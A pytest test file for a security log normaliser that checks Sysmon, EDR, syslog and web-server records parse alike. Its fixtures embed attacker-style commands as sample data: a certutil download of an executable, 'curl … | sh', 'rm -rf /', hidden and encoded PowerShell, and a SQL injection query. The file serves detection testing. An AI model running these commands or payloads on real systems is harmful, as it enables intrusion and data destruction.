"""One act reads alike whichever agent, tool or product wrote it down, to the models and to the rules."""
from __future__ import annotations

import json

import pytest

from aiscore_contract.event import Event
from aiscore_model.normalise import normalise
from aiscore_rules.fields import read_facts

IMAGE, PARENT, LINE = "C:\\Windows\\System32\\certutil.exe", "C:\\Windows\\System32\\cmd.exe", "certutil -urlcache -f http://203.0.113.9/a.exe a.exe"
DATA = {"UtcTime": "2031-03-01 10:11:12.123", "ProcessGuid": "{1}", "Image": IMAGE, "CommandLine": LINE, "User": "CORP\\bob", "ParentImage": PARENT}
CHANNEL, PROVIDER = "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon"
MESSAGE = "Process Create:\r\n" + "\r\n".join(f"{name}: {value}" for name, value in DATA.items())
JOINED = MESSAGE.replace("\r\n", " ")
XML = (f"<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='{PROVIDER}'/><EventID>1</EventID><Channel>{CHANNEL}</Channel>"
       "<Computer>ws1</Computer></System><EventData>" + "".join(f"<Data Name='{name}'>{value}</Data>" for name, value in DATA.items()) + "</EventData></Event>")
PAYLOAD = json.dumps({"EventData": {"Data": [{"@Name": name, "#text": value} for name, value in DATA.items()]}})
SMALL = {name[:1].lower() + name[1:]: value.replace("\\", "\\\\") for name, value in DATA.items()}
RECORDS = {
    "wazuh": {"rule": {"level": 3}, "data": {"win": {"system": {"eventID": "1", "channel": CHANNEL, "providerName": PROVIDER, "computer": "ws1"}, "eventdata": SMALL}}},
    "winlogbeat 6": {"log_name": CHANNEL, "source_name": PROVIDER, "event_id": 1, "computer_name": "ws1", "event_data": DATA, "message": MESSAGE},
    "gelf": {"version": "1.1", "host": "ws1", "short_message": "Process Create:", "_EventID": 1, "_Channel": CHANNEL, "_SourceName": PROVIDER,
             **{f"_{name}": value for name, value in DATA.items()}},
    "graylog": {"source": "ws1", "winlogbeat_winlog_event_id": 1, "winlogbeat_winlog_channel": CHANNEL, "winlogbeat_winlog_provider_name": PROVIDER,
                **{f"winlogbeat_winlog_event_data_{name}": value for name, value in DATA.items()}},
    "helk": {"event_id": 1, "log_name": CHANNEL, "source_name": PROVIDER, "host_name": "ws1", "process_path": IMAGE, "process_command_line": LINE,
             "process_parent_path": PARENT, "user_account": "CORP\\bob"},
    "fluent bit": {"ProviderName": PROVIDER, "EventID": 1, "Channel": CHANNEL, "Computer": "ws1", "Message": MESSAGE, "StringInserts": list(DATA.values())},
    "fluentd": {"provider_name": PROVIDER, "event_id": "1", "channel": CHANNEL, "computer": "ws1", "description": MESSAGE},
    "otel": {"body": {"channel": CHANNEL, "computer": "ws1", "event_id": {"id": 1}, "provider": {"name": PROVIDER},
                      "event_data": {"data": [{name: value} for name, value in DATA.items()]}}},
    "azure": {"Source": PROVIDER, "EventLog": CHANNEL, "Computer": "ws1", "EventID": 1, "RenderedDescription": "x",
              "EventData": "<DataItem><EventData>" + "".join(f'<Data Name="{name}">{value}</Data>' for name, value in DATA.items()) + "</EventData></DataItem>"},
    "get-winevent": {"Id": 1, "ProviderName": PROVIDER, "LogName": CHANNEL, "MachineName": "ws1", "Properties": [{"Value": "-"}], "Message": MESSAGE},
    "chainsaw": {"group": "Sigma", "document": {"kind": "evtx", "data": {"Event": {"System": {"Provider_attributes": {"Name": PROVIDER}, "EventID": 1, "Channel": CHANNEL,
                                                                                              "Computer": "ws1"}, "EventData": DATA}}}},
    "hayabusa": {"RuleTitle": "x", "Channel": "Sysmon", "EventID": 1, "Computer": "ws1", "Details": f"Cmdline: {LINE} ¦ Proc: {IMAGE} ¦ User: CORP\\bob ¦ ParentProc: {PARENT}"},
    "headless row": {"EventID": "1", **DATA},
    "message alone": {"EventID": 1, "Channel": CHANNEL, "Computer": "ws1", "Message": JOINED},
    "defender": {"ActionType": "ProcessCreated", "DeviceName": "ws1", "FolderPath": IMAGE, "ProcessCommandLine": LINE, "AccountName": "bob", "InitiatingProcessFolderPath": PARENT},
    "falcon": {"event_simpleName": "ProcessRollup2", "ComputerName": "ws1", "ImageFileName": IMAGE, "CommandLine": LINE, "UserName": "bob", "ParentImageFileName": PARENT},
    "cortex": {"event_type": "ENUM.PROCESS", "agent_hostname": "ws1", "action_process_image_path": IMAGE, "action_process_image_command_line": LINE,
               "actor_process_image_path": PARENT, "actor_effective_username": "bob"},
    "elastic": {"event": {"dataset": "endpoint.events.process", "action": "start"}, "host": {"name": "ws1"}, "user": {"name": "bob"},
                "process": {"executable": IMAGE, "command_line": LINE, "parent": {"executable": PARENT}}},
}
LINES = {
    "viewer": f"Log Name:      {CHANNEL}\nSource:        {PROVIDER}\nEvent ID:      1\nComputer:      ws1\nDescription:\n{MESSAGE}",
    "message": MESSAGE,
    "behind syslog": f"<13>Mar  1 10:11:12 ws1 agent[4]: {JOINED}",
    "ossec": f"2031 Mar 01 10:11:12 WinEvtLog: {CHANNEL}: INFORMATION(1): {PROVIDER}: SYSTEM: NT AUTHORITY: ws1: {JOINED}",
    "wincollect": f"<13>Mar 01 10:11:12 ws1 AgentDevice=WindowsLog\tAgentLogFile={CHANNEL}\tSource={PROVIDER}\tComputer=ws1\tEventID=1\tEventIDCode=1\tMessage={JOINED}",
    "evtsys": f"<29>Mar  1 10:11:12 ws1 {PROVIDER}: 1: {JOINED}",
    "nxlog": f'<14>1 2031-03-01T10:11:12.123Z ws1 {PROVIDER} 4 - [NXLOG@14506 EventID="1" Channel="{CHANNEL}" SourceName="{PROVIDER}" Hostname="ws1" ' + " ".join(
        '{}="{}"'.format(name, value.replace("\\", "\\\\")) for name, value in DATA.items()) + f"] {JOINED}",
    "evtxecmd": f'1,1,2031-03-01 10:11:12.123,1,Info,{PROVIDER},{CHANNEL},4,8,ws1,,S-1-5-18,x,CORP\\bob,,a,b,,,,,{LINE},False,x.evtx,Classic,0,"' + PAYLOAD.replace('"', '""') + '"',
    "export-csv": '"' + MESSAGE + f'","1","5",,"4","1","0","-9","1","{PROVIDER}","5","{CHANNEL}","4","8","ws1","S-1-5-18"',
    "xml in a row": '"2031-03-01","ws1","' + XML.replace("'", '""') + '"',
}
SHAPES = {**{name: json.dumps(record) for name, record in RECORDS.items()}, **LINES}


@pytest.mark.parametrize("name", sorted(SHAPES))
def test_a_process_start_of_windows_reads_alike_whoever_wrote_it(name):
    read, facts = normalise(Event(SHAPES[name])), read_facts(SHAPES[name])
    assert read.kind == "windows" and read.action == "process create"
    assert "process windows system32 certutil exe command certutil urlcache f http url publicip a exe a exe parent windows system32 cmd exe" in read.template
    entities = dict(read.entities)
    assert (entities["process"], entities["parent"], entities["user"].rpartition("\\")[2]) == ("certutil.exe", "cmd.exe", "bob")
    assert read.focus == (LINE,)
    assert facts.family == "windows"
    assert [facts.fields.get(field) for field in ("eventid", "image", "commandline", "parentimage")] == ["1", IMAGE, LINE, PARENT]


FAILED = ("An account failed to log on. Subject: Security ID: S-1-0-0 Account Name: - Account Domain: - Logon ID: 0x0 Logon Type: 3 Account For Which Logon Failed: "
          "Security ID: S-1-0-0 Account Name: administrator Account Domain: CORP Failure Information: Failure Reason: Unknown user name or bad password. Status: 0xC000006D "
          "Sub Status: 0xC0000064 Network Information: Workstation Name: KALI Source Network Address: 203.0.113.7 Source Port: 5110 This event is generated when a logon fails.")


@pytest.mark.parametrize("text", [FAILED, f"<13>Mar  1 10:11:12 dc1 winlog[4]: {FAILED}", f"2031 Mar 01 10:11:12 WinEvtLog: Security: AUDIT_FAILURE(4625): "
                                  f"Microsoft-Windows-Security-Auditing: (no user): no domain: dc1: {FAILED}"])
def test_a_message_of_the_security_log_keeps_who_it_was_about_when_its_lines_were_joined(text):
    read, facts = normalise(Event(text)), read_facts(text)
    assert read.action == "logon failed" and "type network" in read.template and "no such user" in read.template and "station attack tool" in read.template
    assert dict(read.entities)["target"] == "administrator" and dict(read.entities)["src"] == "203.0.113.7"
    assert facts.fields["eventid"] == "4625" and facts.fields["targetusername"] == "administrator" and facts.fields["substatus"] == "0xC0000064"


@pytest.mark.parametrize(("record", "words"), [
    ({"ActionType": "RegistryValueSet", "DeviceName": "ws1", "RegistryKey": "HKEY_LOCAL_MACHINE\\Software\\Run", "RegistryValueName": "u", "RegistryValueData": "C:\\x.exe",
      "InitiatingProcessFileName": "reg.exe"}, "registry value set windows sysmon process reg exe registry software run u value c x exe"),
    ({"ActionType": "LogonFailed", "DeviceName": "ws1", "AccountName": "administrator", "LogonType": "RemoteInteractive", "RemoteIP": "203.0.113.7"},
     "logon failed windows security type remote interactive from publicip target administrator"),
    ({"event_simpleName": "DnsRequest", "ComputerName": "ws1", "DomainName": "evil.example", "ContextBaseFileName": "x.exe"}, "dns query windows sysmon process x exe query"),
    ({"type": "endpoint.event.netconn", "device_name": "ws1", "process_path": "c:\\x.exe", "remote_ip": "203.0.113.9", "remote_port": 4444}, "network connection windows sysmon process x exe"),
])
def test_what_an_endpoint_product_saw_besides_processes_is_said_in_full(record, words):
    assert normalise(Event(json.dumps(record))).template.startswith(words)


def test_the_system_a_row_is_of_decides_whether_it_is_windows():
    row = {"event_simpleName": "ProcessRollup2", "ComputerName": "web1", "ImageFileName": "/usr/bin/curl", "CommandLine": "curl http://203.0.113.9/a"}
    assert normalise(Event(json.dumps(row))).kind == "auditd" and read_facts(json.dumps(row)).family == "json"


@pytest.mark.parametrize("line", [
    '1.2.3.4 - - [01/Mar/2031:10:11:12 +0000] "GET / HTTP/1.1" 200 5 "-" "WinEvtLog: Security: AUDIT_SUCCESS(4624): p: u: d: c: An account was successfully logged on."',
    '1.2.3.4 - - [01/Mar/2031:10:11:12 +0000] "GET / HTTP/1.1" 404 5 "-" "<Event xmlns=\'a\'><System><EventID>4624</EventID></System></Event>"',
    "Mar  1 10:11:12 web1 sshd[7]: Failed password for invalid user An account was successfully logged on. from 203.0.113.7 port 1 ssh2",
    "Mar  1 10:11:12 web1 app[7]: login failed for name: An account was successfully logged on. Subject: Account Name: x",
    "Mar  1 10:11:12 web1 sudo: eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/echo WinEvtLog: Security: AUDIT_SUCCESS(4624): p: u: d: c: x",
])
def test_what_a_stranger_typed_makes_no_windows_event(line):
    assert normalise(Event(line)).kind != "windows" and read_facts(line).family != "windows"


def test_a_command_may_hold_the_name_that_follows_it_in_a_joined_message():
    text = "Process Create: UtcTime: 1 Image: C:\\x.exe CommandLine: x /c rem CurrentDirectory: & mimikatz CurrentDirectory: C:\\ User: bob"
    assert "mimikatz" in " ".join(normalise(Event(text)).focus) and read_facts(text).fields["commandline"].endswith("mimikatz")


def test_a_parents_command_may_hold_what_follows_a_command():
    text = ("Process Create: UtcTime: 1 Image: C:\\x.exe CommandLine: x /c whoami CurrentDirectory: C:\\ User: bob ParentImage: C:\\y.exe "
            "ParentCommandLine: y rem CurrentDirectory: C:\\z ParentUser: ann")
    fields, entities = read_facts(text).fields, dict(normalise(Event(text)).entities)
    assert (fields["commandline"], fields["parentimage"]) == ("x /c whoami", "C:\\y.exe")
    assert fields["parentcommandline"] == "y rem CurrentDirectory: C:\\z" and entities["parent"] == "y.exe"


def test_a_header_of_which_blanks_keep_the_pairs_apart_is_read_by_rules_as_by_models():
    fields = read_facts(f"LogName={CHANNEL} EventCode=1 ComputerName=ws1 Message={JOINED}").fields
    assert (fields["channel"], fields["eventid"], fields["commandline"], fields["parentimage"]) == (CHANNEL, "1", LINE, PARENT)


def test_snares_tabs_may_be_escaped():
    row = ("ws1\tMSWinEventLog\t1\tSecurity\t77\tTue Mar 01 10:11:12 2031\t4688\tMicrosoft-Windows-Security-Auditing\tbob\tN/A\tSuccess Audit\tws1\tProcess Creation\t\t"
           "A new process has been created.   Process Information:   New Process Name: C:\\x.exe   Process Command Line: x /quiet\t5555")
    plain = normalise(Event("<13>Mar  1 10:11:12 " + row))
    assert plain.action == "process create" and normalise(Event("<13>Mar  1 10:11:12 " + row.replace("\t", "#011"))) == plain


TARGET = "/index.php?id=1%27%20UNION%20SELECT%201,2,user()--%20-"
REQUESTS = {
    "nginx json": json.dumps({"remote_addr": "203.0.113.7", "request": f"GET {TARGET} HTTP/1.1", "status": "200", "body_bytes_sent": "512", "http_user_agent": "sqlmap/1.7"}),
    "caddy": json.dumps({"msg": "handled request", "request": {"remote_ip": "203.0.113.7", "method": "GET", "uri": TARGET, "headers": {"User-Agent": ["sqlmap/1.7"]}},
                         "size": 512, "status": 200}),
    "a collection": json.dumps({"Method": "GET", "URL": TARGET, "User-Agent": "sqlmap/1.7", "status": 200, "client_ip": "203.0.113.7"}),
    "envoy": f'[2031-03-01T10:11:12.123Z] "GET {TARGET} HTTP/1.1" 200 - 0 512 20 19 "203.0.113.7" "sqlmap/1.7" "a-b" "h" "10.0.0.8:80"',
    "haproxy": f'Mar  1 10:11:12 lb haproxy[1]: 203.0.113.7:5 [01/Mar/2031:10:11:12.123] fe be/s 0/0/1/2/3 200 512 - - ---- 1/1/0/0/0 0/0 {{h|sqlmap/1.7}} "GET {TARGET} HTTP/1.1"',
    "balancer": f'2031-03-01T10:11:12.123456Z elb 203.0.113.7:5 10.0.0.8:80 0.1 0.2 0.1 200 200 30 512 "GET {TARGET} HTTP/1.1" "sqlmap/1.7" a b',
    "cloudfront": f"2031-03-01\t10:11:12\tLHR62-C3\t512\t203.0.113.7\tGET\td1.example\t/index.php\t200\t-\tsqlmap/1.7\t{TARGET.partition('?')[2]}\t-\tMiss\ta\th\thttps",
    "own order": f"2031-03-01 10:11:12 203.0.113.7 - 10.0.0.8 80 GET {TARGET.replace('?', ' ')} 200 sqlmap/1.7",
}


@pytest.mark.parametrize("name", sorted(REQUESTS))
def test_a_request_reads_alike_whichever_server_wrote_it(name):
    read, facts = normalise(Event(REQUESTS[name])), read_facts(REQUESTS[name])
    assert read.kind == "web" and read.template.startswith("http get path index php query id num quote union select num user paren comment status success ok")
    assert "agent attack tool sqlmap" in read.template and "UNION SELECT" in read.focus[0]
    assert facts.fields["cs-method"] == "GET" and any("UNION SELECT" in value for value in facts.fields["cs-uri-query"]) and facts.fields["sc-status"] == "200"


@pytest.mark.parametrize("text", [
    f'[pid: 1|app: 0|req: 1/1] 203.0.113.7 () {{34 vars in 500 bytes}} [Wed Mar  1 10:11:12 2031] GET {TARGET} => generated 5 bytes in 2 msecs (HTTP/1.1 200) 4 headers',
    f'Started GET "{TARGET}" for 203.0.113.7 at 2031-03-01 10:11:12 +0000', f'[GIN] 2031/03/01 - 10:11:12 | 200 |     1.2ms |     203.0.113.7 | GET      "{TARGET}"',
    f"GET {TARGET} 200 20.123 ms - 512", f'INFO:     203.0.113.7:5 - "GET {TARGET} HTTP/1.1" 200 OK', f'7,"GET","{TARGET}","Mozilla/5.0"', TARGET.partition("?")[2],
    f"method=GET path={TARGET} format=html status=200 duration=20.1 ip=203.0.113.7", rf"GET {TARGET} HTTP/1.1\r\nHost: h.example\r\n\r\n",
])
def test_frameworks_rows_and_queries_alone_are_requests(text):
    read, facts = normalise(Event(text)), read_facts(text)
    assert "id num quote union select num" in read.template
    assert any("UNION SELECT" in value for value in facts.fields["cs-uri-query"])


@pytest.mark.parametrize(("text", "words"), [
    ("date=2031-03-01 time=10:11:12 cmd=show running-config user=bob src=203.0.113.7", "command show running config from publicip user"),
    ('level=info msg="ran \\"rm -rf /\\" as root" user=bob cmd="sh -c \\"curl http://203.0.113.9/a | sh\\"" src=203.0.113.7',
     "command sh c curl http url publicip a sh severity info ran rm rf as root from publicip user"),
    ('a="x" file="C:\\Temp\\" user=bob action=deleted', "user"),
    ("user=bob;action=login;result=failed;reason=bad password", "bad password"),
    ("User: bob, Action: login failed, Source IP: 203.0.113.7, Reason: Invalid password", "action login failed invalid password from publicip user"),
    ("LEEF:2.0|Acme|Gate|1.0|login|0x5E|src=203.0.113.7^usrName=bob^action=failed", "action failed from publicip user"),
    ('<Event><Timestamp data_type="4">x</Timestamp><User-Name data_type="1">CORP\\bob</User-Name><Calling-Station-Id data_type="1">203.0.113.7</Calling-Station-Id>'
     '<Packet-Type data_type="0">3</Packet-Type><Reason-Code data_type="0">16</Reason-Code></Event>', "login failed radius code 16 user"),
])
def test_pairs_keep_their_values_whole(text, words):
    read = normalise(Event(text))
    assert read.kind == "keyvalue" and words in " ".join(word for word in read.template.split() if word != "doublequote"), read.template


def test_a_login_at_a_policy_server_reads_alike_however_its_record_begins():
    about = ('<User-Name data_type="1">CORP\\bob</User-Name><Packet-Type data_type="0">3</Packet-Type><Reason-Code data_type="0">16</Reason-Code>'
             '<Calling-Station-Id data_type="1">203.0.113.7</Calling-Station-Id></Event>')
    read = {normalise(Event(start + about)).template for start in (
        '<Event><Timestamp data_type="4">03/14/2031 10:11:12.123</Timestamp>', '<Event><Computer-Name data_type="1">NPS1</Computer-Name>',
        '<?xml version="1.0"?><Event><Event-Source data_type="1">IAS</Event-Source>')}
    assert len(read) == 1 and next(iter(read)).startswith("login failed radius code 16 user")


def test_a_name_at_a_policy_server_is_no_request_and_no_record():
    record = ('<Event><Timestamp data_type="4">x</Timestamp><User-Name data_type="1">{}</User-Name><Packet-Type data_type="0">3</Packet-Type>'
              '<Reason-Code data_type="0">16</Reason-Code></Event>')
    for name in ('"GET / HTTP/1.1" 200', "x\nEventCode=4624\nLogName=Security", "<![CDATA[x</User-Name><Packet-Type>2</Packet-Type>]]>"):
        read = normalise(Event(record.format(name)))
        assert read.kind == "keyvalue" and "login failed" in read.template


def test_a_section_of_characters_in_an_event_is_read_by_models_as_by_rules():
    event = XML.replace(f">{DATA['CommandLine']}<", f"><![CDATA[{DATA['CommandLine']}]]><")
    assert event != XML and normalise(Event(event)) == normalise(Event(XML))


def test_the_rules_read_a_command_without_quotes_as_one_value():
    facts = read_facts("user=bob action=exec cmd=powershell -nop -w hidden src=10.0.0.5")
    assert facts.fields["cmd"] == "powershell -nop -w hidden" and facts.fields["src"] == "10.0.0.5"


def test_a_setting_in_a_command_ends_it_for_nobody():
    line = "user=bob cmd=powershell mode=1 -enc SQBFAFgA src=10.0.0.5"
    fields = read_facts(line + " action=exec").fields
    assert fields["cmd"] == "powershell mode=1 -enc SQBFAFgA" and fields["src"] == "10.0.0.5" and "mode" not in fields
    assert "powershell mode=1 -enc" in normalise(Event(line + " action=exec")).focus[0]


def test_a_folder_of_unix_may_have_blanks_in_its_name():
    line = "user=bob action=exec pid=7 exe=/opt/My Tools/nc ppid=1"
    assert read_facts(line).fields["exe"] == "/opt/My Tools/nc" and dict(normalise(Event(line)).entities)["process"] == "nc"


def test_a_federation_services_document_tells_who_failed_from_where():
    document = ("&lt;?xml version=\"1.0\"?&gt;&lt;AuditBase&gt;&lt;AuditResult&gt;Failure&lt;/AuditResult&gt;&lt;FailureType&gt;CredentialValidationError&lt;/FailureType&gt;"
                "&lt;UserId&gt;corp\\bob&lt;/UserId&gt;&lt;IpAddress&gt;203.0.113.7&lt;/IpAddress&gt;&lt;/AuditBase&gt;")
    read = normalise(Event("<Event><System><Provider Name='AD FS Auditing'/><EventID>1203</EventID><Channel>Security</Channel></System>"
                           f"<EventData><Data>1d2c</Data><Data>{document}</Data></EventData></Event>"))
    assert read.template.startswith("logon failed windows ad fs auditing from publicip target user failure credential validation error")


@pytest.mark.parametrize("value", [None, 1, 1.5, True, [], [1], {}, {"a": [1]}, "", "x", 10 ** 30])
@pytest.mark.parametrize("record", sorted(RECORDS))
def test_members_of_a_wrong_type_are_read_without_complaint(record, value):
    whole = RECORDS[record]
    for name in whole:
        text = json.dumps({**whole, name: value})
        normalise(Event(text))
        read_facts(text)


@pytest.mark.parametrize("text", [
    "Process Create: UtcTime: 1 " + "CommandLine: x CurrentDirectory: " * 1_000, "An account failed to log on. " + "Subject: " * 4_000,
    "Creating Scriptblock text (1 of 1):" + " ScriptBlock ID: a Path:" * 1_500, "WinEvtLog: " + "a: " * 12_000, 'a,"<Event xmlns="" ' + "</Event>" * 4_000,
    '<14>1 2031-03-01T10:11:12Z h p 4 - [NXLOG@14506 EventID="' + '\\"' * 17_000, "Log Name:      " + "Source: " * 4_000 + "Description:",
    "A: b, " * 6_000, "a=b;" * 9_000, "cmd=a" + " " * 36_000, "cmd=a b " * 4_500, "cmd=a" + " bcd=e -f" * 4_000, "exe=/a" + " b" * 9_000, "exe=/a b/c " * 3_000, 'a="' + '\\"' * 18_000, "<a>" + "<b>c</b>" * 4_000, "<a " * 12_000,
    '"GET / HTTP/1.1" ' * 2_000, '"GET ' * 7_000 + "HTTP/", "1.1.1." * 6_000 + ' "GET / HTTP/1.1" 200', "GET," * 9_000, "a=%41" + "&a=b" * 9_000,
])
@pytest.mark.timeout(20)  # A guard, no measurement: quadratic work on so many characters takes minutes.
def test_hostile_lines_of_these_forms_are_read_in_bounded_work(text):
    normalise(Event(text[:36_000]))
    read_facts(text[:36_000])


@pytest.mark.parametrize("behind", ["", " Message=The audit log was cleared. Subject: EventCode=4624 LogName=Application"])
def test_a_header_on_one_line_is_one(behind):
    told = normalise(Event(f"EventCode=1102 LogName=Security SourceName=Microsoft-Windows-Eventlog ComputerName=dc7{behind}"))
    assert told.action == "audit log cleared" and "=" not in told.template and dict(told.entities)["host"] == "dc7"
